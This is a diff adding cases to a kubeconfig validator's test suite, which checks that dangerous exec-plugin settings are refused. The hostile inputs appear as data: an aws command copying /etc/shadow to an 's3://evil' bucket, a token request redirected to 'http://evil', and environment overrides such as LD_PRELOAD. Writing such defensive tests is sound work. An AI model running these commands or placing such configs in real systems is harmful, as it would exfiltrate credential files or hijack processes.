@@ -36,6 +36,37 @@ describe('kubeconfig', () => {
   test.each<[string, Wish, RegExp]>([
     ['any program', { user: { exec: { command: '/bin/sh', args: ['-c', 'env'] } } }, /exec starts a program/],
     ['a known plugin by another path', { user: { exec: { command: './aws' } } }, /exec starts a program/],
+    [
+      'a plugin for something else',
+      { user: { exec: { command: 'aws', args: ['s3', 'cp', '/etc/shadow', 's3://evil'] } } },
+      /something else than a token/,
+    ],
+    [
+      'a plugin for something else, between options',
+      { user: { exec: { command: 'aws', args: ['--debug', 'configure', '--debug', 'set', 'eks', 'get-token'] } } },
+      /something else than a token/,
+    ],
+    [
+      'a plugin asked elsewhere',
+      { user: { exec: { command: 'aws', args: ['eks', 'get-token', '--endpoint-url=http://evil'] } } },
+      /something else than a token/,
+    ],
+    ['a plugin that is told to do more', { user: { exec: { command: 'kubelogin', args: ['remove-tokens'] } } }, /something else than a token/],
+    [
+      'a plugin with a library of its own',
+      { user: { exec: { command: 'aws', args: ['eks', 'get-token'], env: [{ name: 'LD_PRELOAD', value: '/work/x.so' }] } } },
+      /exec sets LD_PRELOAD/,
+    ],
+    [
+      'a plugin with a configuration of its own',
+      { user: { exec: { command: 'aws', args: ['eks', 'get-token'], env: [{ name: 'AWS_CONFIG_FILE', value: '/work/x' }] } } },
+      /exec sets AWS_CONFIG_FILE/,
+    ],
+    [
+      'a plugin with an interpreter of its own',
+      { user: { exec: { command: 'gke-gcloud-auth-plugin', env: [{ name: 'CLOUDSDK_PYTHON', value: '/work/x' }] } } },
+      /exec sets CLOUDSDK_PYTHON/,
+    ],
     ['an inherited name', { user: { exec: { command: 'constructor' } } }, /exec starts a program/],
     ['auth-provider', { user: { 'auth-provider': { name: 'oidc' } } }, /auth-provider/],
     ['a proxy', { cluster: { 'proxy-url': 'http://evil' } }, /proxy-url/],
@@ -48,6 +79,11 @@ describe('kubeconfig', () => {
     ['no context', { contexts: [] }, /no context/],
   ])('refuses %s', (_, wish, want) => expect(problems(wish).join('\n')).toMatch(want))
 
+  test('a secret in the environment of a plugin is hidden', () => {
+    const exec = { command: 'aws', args: ['eks', 'get-token'], env: [{ name: 'AWS_SECRET_ACCESS_KEY', value: 'k3y' }] }
+    expect(checkKubeconfig(config({ user: { exec } }), undefined, beside)).toMatchObject({ ok: { secrets: ['k3y'] } })
+  })
+
   test('names every problem at once', () => {
     expect(problems({ cluster: { 'proxy-url': 'x', server: 'ftp://x' }, user: { exec: { command: 'sh' }, tokenFile: '/x' } })).toHaveLength(4)
   })
@@ -55,6 +91,33 @@ describe('kubeconfig', () => {
   test.each([
     ['a named context of several', { contexts: ['a', 'b'] }, 'b'],
     ['a cloud plugin', { user: { exec: { command: 'aws', args: ['eks', 'get-token'] } } }, undefined],
+    [
+      'a cloud plugin as aws eks update-kubeconfig writes it',
+      {
+        user: {
+          exec: {
+            command: 'aws',
+            args: ['--region', 'eu-west-1', 'eks', 'get-token', '--cluster-name', 'shop', '--output', 'json'],
+            env: [{ name: 'AWS_PROFILE', value: 'prod' }],
+          },
+        },
+      },
+      undefined,
+    ],
+    ['as gcloud writes it', { user: { exec: { command: 'gke-gcloud-auth-plugin', provideClusterInfo: true } } }, undefined],
+    [
+      'as az and kubelogin write it',
+      {
+        user: {
+          exec: {
+            command: 'kubelogin',
+            args: ['get-token', '--login', 'spn', '--server-id', 'x'],
+            env: [{ name: 'AAD_LOGIN_METHOD', value: 'spn' }],
+          },
+        },
+      },
+      undefined,
+    ],
     ['this machine without verification', { cluster: { server: 'https://127.0.0.1:6443', 'insecure-skip-tls-verify': true } }, undefined],
   ] as const)('takes %s', (_, wish, context) => expect(problems(wish, context)).toEqual([]))
 
